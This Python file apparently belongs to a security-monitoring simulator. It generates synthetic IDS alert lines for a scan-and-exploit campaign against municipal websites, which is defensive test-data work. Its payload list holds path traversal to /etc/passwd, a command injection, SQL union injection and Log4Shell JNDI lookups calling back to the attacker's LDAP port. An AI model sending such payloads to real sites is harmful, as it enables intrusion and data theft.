"""sweep-scan: one foreign source takes a scanner and exploits to the web sites of two dozen municipalities.

ATT&CK T1595.002 -> T1190
"""

from collections.abc import Sequence
from random import Random

from secmon.simulate import eve
from secmon.simulate.clock import stamp
from secmon.simulate.scenarios.script import Injected, Phase, Run, Scenario, Stage
from secmon.simulate.signatures import EXPLOIT, SWEEP, Signature
from secmon.simulate.town import Town
from secmon.simulate.webpages import dropped, request

SCAN = Phase("scan", 0, 420, "information_gathering")
PROBE = Phase("probe", 5, 440, "information_gathering")
EXPLOITATION = Phase("exploitation", 12, 480, "privilege_acquisition")

SITES = 24
SITES_EXPLOITED = 2
ALERTS_A_SITE = 2
AGENTS = (
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "sqlmap/1.9.9#stable (https://sqlmap.org)",
)
PATHS = (
    ("/manager/html", 401),
    ("/cgi-bin/status;id", 404),
    ("/portal/file.do?name=../../../../etc/passwd", 403),
    ("/search.do?q=${jndi:ldap://SOURCE:1389/a}", 200),
    ("/portal/bbs/view.do?nttId=1%20union%20select%201,user(),3--", 500),
    ("/solr/admin/cores", 404),
)
_SCANNER_DELAY = 5.0


def play(run: Run, towns: Sequence[Town], rng: Random) -> list[Injected]:
    """Lines of one run over 24 sites of as many provinces as possible."""
    source = f"192.0.2.{1 + rng.randrange(254)}"
    targets = _targets(towns, rng)
    exploited = set(rng.sample(range(len(targets)), min(SITES_EXPLOITED, len(targets))))
    stage = Stage(run, source)
    step = SCAN.ends / len(targets)
    for number, town in enumerate(targets):
        begins = number * step + rng.random() * step / 2
        _scan(stage, town, source, begins, rng)
        probed = _probe(stage, town, source, begins + _SCANNER_DELAY, rng)
        if number in exploited:
            _exploit(stage, town, source, probed + 2, rng)
    return stage.lines


def _targets(towns: Sequence[Town], rng: Random) -> list[Town]:
    """One site of each province in turn, until there are enough."""
    provinces: dict[str, list[Town]] = {}
    for town in rng.sample(list(towns), len(towns)):
        provinces.setdefault(town.province, []).append(town)
    turns = [
        (turn, number, town)
        for number, of_province in enumerate(provinces.values())
        for turn, town in enumerate(of_province)
    ]
    return [town for _, _, town in sorted(turns, key=lambda t: t[:2])[:SITES]]


def _scan(stage: Stage, town: Town, source: str, begins: float, rng: Random) -> None:
    for number in range(ALERTS_A_SITE):
        text = dropped("/robots.txt", AGENTS[0])
        _alert(stage, SCAN, SWEEP, (town, source), begins + number * 2.5 + rng.random(), text, rng)


def _probe(stage: Stage, town: Town, source: str, begins: float, rng: Random) -> float:
    """Ask for every path; returns the time of the last request."""
    at = begins
    for path, status in PATHS:
        at += 0.4 + rng.random() * 1.2
        moment = stage.at(at)
        url = path.replace("SOURCE", source)
        agent = AGENTS["union" in url]
        ends = eve.ends(town.suricata, source, rng.randrange(32768, 61000), town.web, 80)
        text = f'"hostname":"{town.www}",{request(url, agent, "text/html", "GET", status)}512'
        line = eve.http(stamp(moment), eve.link(rng.getrandbits(51), town.iface), ends, text)
        stage.add(PROBE, moment, town, "ids", line)
    return at


def _exploit(stage: Stage, town: Town, source: str, begins: float, rng: Random) -> None:
    text = request("/login.do?lang=${jndi:ldap://" + source + ":1389/x}", AGENTS[0], "text/html", "GET", 200) + "812"
    _alert(stage, EXPLOITATION, EXPLOIT, (town, source), begins, text, rng)


def _alert(
    stage: Stage,
    phase: Phase,
    signature: Signature,
    between: tuple[Town, str],
    when: float,
    text: str,
    rng: Random,
) -> None:
    town, source = between
    at = stage.at(when)
    ends = eve.ends(town.suricata, source, rng.randrange(32768, 61000), town.web, 80)
    link = eve.link(rng.getrandbits(51), town.iface)
    request_text = f'"hostname":"{town.www}",{text}'
    counters, start = eve.counters(4, 310, 0), stamp(at - 21_000)
    line = eve.alert_http(stamp(at), link, ends, signature.alert(blocked=False), request_text, counters, start)
    stage.add(phase, at, town, "ids", line)


SCENARIO = Scenario(
    "sweep-scan", "one scanner over the web sites of two dozen municipalities", takes_site=False, play=play
)
